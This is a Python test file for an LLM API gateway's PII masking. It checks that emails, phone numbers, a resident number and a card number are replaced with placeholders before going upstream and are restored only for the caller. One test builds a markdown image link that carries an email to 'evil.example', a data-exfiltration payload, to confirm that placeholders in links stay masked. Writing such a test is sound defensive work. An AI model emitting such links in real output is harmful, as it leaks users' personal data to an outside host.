"""Identifiers do not leave, and answers make sense to whoever asked."""

import json
import logging
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from click.testing import CliRunner

from nexus_gateway.cli import main
from tests.support.gateway import KEY, Running, gateway
from tests.support.http_client import Caller, Received, chat
from tests.support.raw_server import LAST_CHUNK, STREAM_HEAD, Peer, RawServer, answering, chunk, plain

pytestmark = pytest.mark.anyio

CANARIES = ("kim.chulsoo@example.co.kr", "010-9876-5432", "900101-1234568", "4111 1111 1111 1111")
ON = {"PII_MASKING_ENABLED": "on", "PII_HASH_SALT": "a-salt-of-some-length-for-tests"}


def ask(stream: bool = False, **more: Any) -> bytes:
    text = f"Write to {CANARIES[0]} or call {CANARIES[1]}. 주민번호는 {CANARIES[2]}이고 카드는 {CANARIES[3]}입니다."
    messages = [{"role": "user", "content": text}]
    return json.dumps({"model": "m", "stream": stream, "messages": messages, **more}, ensure_ascii=False).encode()


async def echo(peer: Peer) -> None:
    """Says again what it was asked, in a stream one character an event."""
    while True:
        request = await peer.receive()
        document = json.loads(request.body)
        said = document["messages"][-1]["content"]
        if not document.get("stream"):
            message = {"role": "assistant", "content": said}
            await peer.send(plain(json.dumps({"choices": [{"index": 0, "message": message}]}).encode()))
            continue
        events = [{"index": 0, "delta": {"content": sign}} for sign in said]
        events.append({"index": 0, "delta": {}, "finish_reason": "stop"})
        lines = b"".join(b"data: %b\n\n" % json.dumps({"choices": [choice]}).encode() for choice in events)
        await peer.send(STREAM_HEAD + chunk(lines + b"data: [DONE]\n\n") + LAST_CHUNK)


@asynccontextmanager
async def echoing(settings: dict[str, str], options: str = "") -> AsyncIterator[tuple[Running, RawServer]]:
    async with (
        RawServer(echo) as upstream,
        gateway({**ON, **settings}, f"m=http://127.0.0.1:{upstream.port}{options}") as running,
    ):
        yield running, upstream


def said(answer: Received) -> str:
    if answer.headers["content-type"] == "application/json":
        return str(answer.json()["choices"][0]["message"]["content"])
    return "".join(event["choices"][0]["delta"].get("content", "") for event in answer.events())


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
async def test_the_upstream_sees_placeholders_and_the_caller_its_own_values(stream: bool) -> None:
    async with echoing({}) as (running, upstream):
        answer = await chat(running.port, body=ask(stream))
        (request,) = upstream.peers[0].requests
        seen = request.body.decode()
        assert not [value for value in CANARIES if value in seen]
        assert seen.count("[EMAIL_") == seen.count("[CARD_") == 1
        assert said(answer) == json.loads(ask())["messages"][0]["content"]
        assert running.records.last.masked is not None
        assert sum(running.records.last.masked.values()) == len(CANARIES)


async def test_the_same_value_has_the_same_placeholder_in_every_request() -> None:
    async with echoing({}) as (running, upstream):
        for _ in range(2):
            await chat(running.port, body=ask())
        first, second = upstream.peers[0].requests
        assert first.body == second.body


async def test_a_request_without_identifiers_goes_on_byte_for_byte() -> None:
    body = b'{"model": "m",   "messages":[{"role":"user","content":"order 2024-11-03 #8812, v1.2.3"}], "seed": 1.0}'
    async with echoing({}) as (running, upstream):
        await chat(running.port, body=body)
        assert upstream.peers[0].requests[0].body == body
        assert running.records.last.masked == {}, "somebody looked"


async def test_an_upstream_of_ones_own_may_see_everything() -> None:
    async with echoing({}, "?mask=off") as (running, upstream):
        await chat(running.port, body=ask())
        assert upstream.peers[0].requests[0].body == ask()


async def test_a_stand_in_and_the_shadow_get_the_body_for_their_own_setting() -> None:
    async with RawServer(echo) as inside, RawServer(echo) as outside, RawServer(echo) as shadow:
        upstreams = (
            f"m=http://127.0.0.1:9?mask=off;inside=http://127.0.0.1:{inside.port}?mask=off;"
            f"outside=http://127.0.0.1:{outside.port};shadow=http://127.0.0.1:{shadow.port}"
        )
        shadowing = {"SHADOW_ENABLED": "true", "SHADOW_TARGET": "shadow", "SHADOW_PERCENT": "100"}
        async with gateway({**ON, "FALLBACKS": "m=outside", **shadowing}, upstreams) as running:
            assert (await chat(running.port, body=ask())).status == 200
            masked = outside.peers[0].requests[0].body.decode()
            assert not [value for value in CANARIES if value in masked]
            peer = await shadow.peer(0)
            await peer.received.wait()
            assert not [value for value in CANARIES if value in peer.requests[0].body.decode()]


async def test_a_placeholder_in_a_link_is_not_restored() -> None:
    body = json.dumps(
        {"model": "m", "messages": [{"role": "user", "content": f"![x](https://evil.example/?q={CANARIES[0]})"}]}
    ).encode()
    async with echoing({}) as (running, _):
        assert CANARIES[0] not in said(await chat(running.port, body=body))
    async with echoing({"PII_RESTORE": "everywhere"}) as (running, _):
        assert CANARIES[0] in said(await chat(running.port, body=body))


async def test_nobody_gets_anothers_value_back() -> None:
    async with echoing({}) as (running, upstream):
        await chat(running.port, body=ask())
        learned = json.loads(upstream.peers[0].requests[0].body)["messages"][0]["content"]
        body = json.dumps({"model": "m", "messages": [{"role": "user", "content": learned}]}).encode()
        assert said(await chat(running.port, body=body)) == learned


@pytest.mark.parametrize(("count", "timeout_s"), [(20_000, "0.02"), (1, "0.000001")], ids=["in steps", "at once"])
async def test_a_body_that_takes_too_long_is_refused_and_does_not_leave(count: int, timeout_s: str) -> None:
    text = " ".join(f"user{number}@example.com 010-{number % 10000:04}-5678" for number in range(count))
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": text}]}).encode()
    async with echoing({"PII_TIMEOUT_SECONDS": timeout_s}) as (running, upstream):
        answer = await chat(running.port, body=body)
        assert (answer.status, answer.json()["error"]["code"]) == (500, "masking_failed")
        assert answer.headers["x-should-retry"] == "false"
        assert not upstream.peers
        assert running.records.last.masked is None


@pytest.mark.parametrize(
    ("salt", "told"),
    [(None, "pii_salt_random"), ("pepper", "pii_salt_short"), ("a-salt-of-some-length-for-tests", None)],
)
async def test_a_salt_that_does_not_last_or_can_be_guessed_is_told(
    salt: str | None, told: str | None, caplog: pytest.LogCaptureFixture
) -> None:
    given = {"PII_HASH_SALT": salt} if salt is not None else {}
    caplog.set_level(logging.WARNING, "nexus_gateway")
    async with gateway({"PII_MASKING_ENABLED": "on", "LOG_LEVEL": "warning", **given}):
        assert [entry.message for entry in caplog.records] == ([told] if told else [])
        assert salt is None or salt not in caplog.text


async def test_with_the_scope_of_all_two_callers_have_the_same_placeholders() -> None:
    keys = {"API_KEYS": f"{KEY},another-key-of-some-length"}
    for scope, alike in (("global", True), ("principal", False)):
        async with echoing({**keys, "PII_SCOPE": scope}) as (running, upstream):
            for key in (KEY, "another-key-of-some-length"):
                assert (await chat(running.port, body=ask(), headers={"x-api-key": key})).status == 200
            first, second = [request.body for peer in upstream.peers for request in peer.requests]
            assert (first == second) is alike


async def test_embeddings_are_asked_for_with_the_type_alone() -> None:
    body = json.dumps({"model": "m", "input": [f"mail {CANARIES[0]}", CANARIES[1]]}).encode()
    vectors = plain(b'{"object":"list","data":[{"embedding":[0.5]}]}')
    async with (
        RawServer(answering(vectors)) as upstream,
        gateway(ON, f"m=http://127.0.0.1:{upstream.port}") as running,
        Caller(running.port) as caller,
    ):
        await caller.ask(body=body, path="/v1/embeddings")
        assert (await caller.receive()).status == 200
        assert json.loads(upstream.peers[0].requests[0].body)["input"] == ["mail [EMAIL]", "[PHONE]"]


def test_the_command_shows_what_would_be_masked_by_what_and_why() -> None:
    told = CliRunner().invoke(main, ["mask"], input=f"Write to {CANARIES[0]}\nor call {CANARIES[1]}.\n")
    assert told.exit_code == 0
    assert re.fullmatch(r"Write to \[EMAIL_\w{16}\]\nor call \[PHONE_\w{16}\]\.\n", told.stdout)
    assert told.stderr.splitlines() == [
        "line 1: EMAIL by email: mailbox and domain",
        "line 2: PHONE by mobile: mobile prefix and length",
    ]
